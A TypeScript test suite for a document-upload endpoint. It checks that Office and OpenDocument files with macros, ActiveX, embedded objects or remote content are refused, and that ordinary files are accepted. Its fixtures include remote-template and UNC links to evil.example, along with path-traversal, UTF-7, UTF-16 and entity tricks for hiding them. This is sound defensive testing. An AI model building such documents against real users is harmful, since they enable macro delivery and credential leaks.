import assert from 'node:assert/strict'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { listDocumentsOfMentee } from '#contract/documents.ts'
import { officeFile, openDocumentFile, relationships } from '../testing/archives.ts'
import { stage } from '../testing/stage.ts'
import { upload } from '../testing/upload.ts'

const world = await stage()

const share = (name: string, content: Buffer, where = world) =>
  upload(where, 'max', [
    ['menteeId', String(where.ids.eva)],
    ['file', new File([new Uint8Array(content)], name)],
  ])

type Relationship = Parameters<typeof relationships>[0]
type More = Parameters<typeof officeFile>[1]
type Types = Parameters<typeof officeFile>[2]

const word = (more?: More, types?: Types) => officeFile('docx', more, types)
const wordWith = (...all: Relationship[]) => word({ 'word/_rels/document.xml.rels': relationships(...all) })
const template = (...target: [address: string, mode?: 'External']) => ({
  'word/_rels/settings.xml.rels': relationships(['attachedTemplate', ...target]),
})
const withTemplate = (target: string) => word(template(target, 'External'))
const excelWith = (...all: Relationship[]) =>
  officeFile('xlsx', { 'xl/_rels/workbook.xml.rels': relationships(...all) })
const slideWith = (...all: Relationship[]) =>
  officeFile('pptx', { 'ppt/slides/_rels/slide1.xml.rels': relationships(...all) })
const manifest = (type: string) => ({
  'META-INF/manifest.xml': `<manifest:manifest><manifest:file-entry manifest:full-path="a" manifest:media-type="${type}"/></manifest:manifest>`,
})

const macros = /\(macros\)/
const object = /\(an embedded object\)/
const elsewhere = /\(content that is loaded from another location\)/
const foreign = /\(a template from another location\)/
const unreadable = /\(a part that cannot be read\)/

type ActiveFile = [name: string, content: Promise<Buffer>, reason: RegExp]

const activeFiles: Record<string, ActiveFile> = {
  'a Word file with macros by their relationship': [
    'a.docx',
    wordWith(['vbaProject', 'theme/a.xml']),
    macros,
  ],
  'a Word file with macros by their content type': [
    'a.docx',
    word({ 'word/a.bin': 'x' }, { bin: 'application/vnd.ms-office.vbaProject' }),
    macros,
  ],
  'a Word file with keys that start macros': [
    'a.docx',
    word({ 'word/a.xml': '<a/>' }, { 'word/a.xml': 'application/vnd.ms-word.keyMapCustomizations+xml' }),
    macros,
  ],
  'an Excel file with macros': ['a.xlsx', excelWith(['xlMacrosheet', 'worksheets/a.xml']), macros],
  'a Word file with ActiveX': ['a.docx', wordWith(['control', 'activeX/a.xml']), /\(ActiveX\)/],
  'a Word file with an add-in': [
    'a.docx',
    word({ '_rels/.rels': relationships(['webextensiontaskpanes', 'word/a.xml']) }),
    /\(an add-in\)/,
  ],
  'a Word file with an embedded object': ['a.docx', wordWith(['oleObject', 'media/a.png']), object],
  'a Word file with an embedded document': ['a.docx', wordWith(['package', 'embeddings/a.docx']), object],
  'a Word file with a linked object': [
    'a.docx',
    wordWith(['oleObject', 'file:///C:\\x.xlsx', 'External']),
    object,
  ],
  'a PowerPoint file with an embedded program': [
    'a.pptx',
    officeFile('pptx', { 'ppt/embeddings/tool.exe': 'MZ' }, { exe: 'application/octet-stream' }),
    object,
  ],
  'a Word file with a template on the web': ['a.docx', withTemplate('https://evil.example/t.dotm'), foreign],
  'a Word file with a template on a server': [
    'a.docx',
    withTemplate('file:///\\\\evil.example\\t.dotm'),
    foreign,
  ],
  'a Word file with a template behind the name of a disk': [
    'a.docx',
    withTemplate('file:///C:/../\\\\evil.example\\t.dotm'),
    foreign,
  ],
  'a Word file with a template behind escapes of the way up': [
    'a.docx',
    withTemplate('file:///C:/%2e%2e/%5c%5cevil.example/t.dotm'),
    foreign,
  ],
  'a Word file whose template is elsewhere, but not said to be': [
    'a.docx',
    word(template('https://evil.example/t.dotm')),
    foreign,
  ],
  'a Word file whose relationships are written in UTF-16': [
    'a.docx',
    word({
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF${template('https://evil.example/t.dotm')['word/_rels/settings.xml.rels']}`,
        'utf16le',
      ),
    }),
    foreign,
  ],
  'a Word file whose relationship is spelt in escapes and has an attribute of another name space': [
    'a.docx',
    word({
      'word/_rels/settings.xml.rels':
        "<r:Relationships><r:Relationship TargetMode='&#x45;xternal' Type='x/attachedTemplate' Target='&#104;ttp://evil.example/t' x:Target='a'\n></r:Relationship></r:Relationships>",
    }),
    foreign,
  ],
  'a Word file with entities of its own': [
    'a.docx',
    word({
      'word/_rels/a.rels':
        '<!DOCTYPE a [<!ENTITY b "External">]><Relationships><Relationship TargetMode="&b;"/></Relationships>',
    }),
    unreadable,
  ],
  'a Word file in an encoding that hides its relationships': [
    'a.docx',
    word({ 'word/_rels/a.rels': '<?xml version="1.0" encoding="utf-7"?><a>+ADw-Relationship/+AD4-</a>' }),
    unreadable,
  ],
  'a Word file with a picture from the web': [
    'a.docx',
    wordWith(['image', 'https://evil.example/pixel.png', 'External']),
    elsewhere,
  ],
  'a Word file with a picture on a server': [
    'a.docx',
    wordWith(['image', '\\\\evil.example\\a.png', 'External']),
    elsewhere,
  ],
  'a Word file with a document that is taken in': ['a.docx', wordWith(['aFChunk', 'a.html']), elsewhere],
  'an Excel file with a query': ['a.xlsx', excelWith(['connections', 'connections.xml']), elsewhere],
  'an Excel file with a workbook on a server': [
    'a.xlsx',
    excelWith(['externalLinkPath', 'file:///\\\\evil.example\\Rota.xlsx', 'External']),
    elsewhere,
  ],
  'a PowerPoint file with a film on the web': [
    'a.pptx',
    slideWith(['video', 'https://evil.example/1', 'External']),
    elsewhere,
  ],
  'an OpenDocument text with macros': [
    'a.odt',
    openDocumentFile(undefined, { 'Basic/Standard/Module1.xml': '<a/>' }),
    macros,
  ],
  'an OpenDocument text with scripts': [
    'a.odt',
    openDocumentFile(undefined, { 'Scripts/python/a.py': 'x' }),
    macros,
  ],
  'an OpenDocument text with an embedded object': [
    'a.odt',
    openDocumentFile(undefined, manifest('application/vnd.sun.star.oleobject')),
    object,
  ],
  'an OpenDocument text with a template on the web': [
    'a.odt',
    openDocumentFile(undefined, { 'meta.xml': '<meta:template xlink:href="https://evil.example/a.ott"/>' }),
    foreign,
  ],
  'an OpenDocument text with a picture from the web': [
    'a.odt',
    openDocumentFile('<draw:image xlink:href="https://evil.example/a.png" x:href="Pictures/a.png"/>'),
    elsewhere,
  ],
  'an OpenDocument text with a section on a server': [
    'a.odt',
    openDocumentFile('<text:section-source xlink:href="//evil.example/a.odt"/>'),
    elsewhere,
  ],
  'an OpenDocument text with a picture in an object from the web': [
    'a.odt',
    openDocumentFile(undefined, {
      'Object 1/styles.xml': '<draw:fill-image xlink:href="http://evil.example/a.png"/>',
    }),
    elsewhere,
  ],
  'an OpenDocument text with a locked part': [
    'a.odt',
    openDocumentFile(undefined, { 'styles.xml': Buffer.from([0x50, 0xff, 0x13, 0x37]) }),
    unreadable,
  ],
}

const resourceFork = Buffer.from('00051607000200004d6163204f53205820', 'hex')

const ordinaryFiles: Record<string, [name: string, content: Promise<Buffer>]> = {
  'a letter with links, a picture and the template of its author': [
    'a.docx',
    word({
      'word/_rels/document.xml.rels': relationships(
        ['hyperlink', 'https://www.nhs.uk/', 'External'],
        ['image', 'media/image1.png'],
      ),
      ...template('file:///C:\\Users\\Jos\u00e9\\Custom%20Office%20Templates\\Letter.dotx', 'External'),
    }),
  ],
  'a letter that was zipped again on a Mac': [
    'a.docx',
    word({
      '.DS_Store': 'Bud1',
      '__MACOSX/._[Content_Types].xml': resourceFork,
      '__MACOSX/_rels/._.rels': resourceFork,
      '__MACOSX/word/_rels/._document.xml.rels': resourceFork,
      '__MACOSX/word/._document.xml': resourceFork,
    }),
  ],
  'a table with other workbooks and settings of a printer': [
    'a.xlsx',
    officeFile(
      'xlsx',
      {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
          'externalLinkPath',
          'Rota.xlsx',
          'External',
        ]),
        'xl/printerSettings/printerSettings1.bin': 'x',
      },
      { bin: 'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings' },
    ),
  ],
  'slides with a chart and a film': [
    'a.pptx',
    officeFile(
      'pptx',
      {
        'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x',
        'ppt/slides/_rels/slide1.xml.rels': relationships(['video', '../media/a.mp4']),
        'ppt/charts/chart1.xml': '<c:chartSpace/>',
        'ppt/charts/_rels/chart1.xml.rels': relationships([
          'package',
          '../embeddings/Microsoft_Excel_Sheet1.xlsx',
        ]),
      },
      {
        mp4: 'video/mp4',
        'ppt/charts/chart1.xml': 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      },
    ),
  ],
  'an OpenDocument text with links, a picture, a chart and a template, zipped again on a Mac': [
    'a.odt',
    openDocumentFile(
      '<text:a xlink:href="https://www.nhs.uk/">NHS</text:a><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>',
      {
        'Object 1/content.xml':
          '<office:document-content><chart:chart xlink:href=".."/></office:document-content>',
        'meta.xml': '<meta:template xlink:href="../../Templates/Letter.ott"/>',
        ...manifest('application/vnd.oasis.opendocument.chart'),
        '__MACOSX/._content.xml': resourceFork,
      },
    ),
  ],
}

for (const [what, [name, content, reason]] of Object.entries(activeFiles))
  test(`${what} is refused with advice, and nothing of it is stored`, async () => {
    const answer = await share(name, await content)

    assert.equal(answer.statusCode, 400, answer.body)
    const { file } = answer.json().fields
    assert.match(
      file,
      /^This document contains active content \(.+\)\. Remove it or save the document as a plain PDF/,
    )
    assert.match(file, reason)
    assert.deepEqual(readdirSync(join(world.dataDir, 'tmp')), [])
  })

for (const [what, [name, content]] of Object.entries(ordinaryFiles))
  test(`${what} is an ordinary document`, async () => {
    const answer = await share(name, await content)

    assert.equal(answer.statusCode, 201, answer.body)
    assert.equal(answer.json().active_content, null)
  })

test('in marking mode everybody who sees the document reads what active content it has', async () => {
  const marking = await stage({ activeContent: 'mark' })

  const answer = await share('a.docx', await wordWith(['vbaProject', 'a.bin']), marking)

  assert.equal(answer.statusCode, 201, answer.body)
  for (const who of ['max', 'eva', 'nora'] as const) {
    const [document] = await marking
      .as(who)
      .call(listDocumentsOfMentee, { params: { menteeId: marking.ids.eva } })
    assert.equal(document?.active_content, 'macros')
  }
  const entries = await marking.recorded(10)
  const shared = entries.find(({ action }) => action === 'document.created')
  assert.match(shared?.details ?? '', /, which contains active content: macros$/)
})
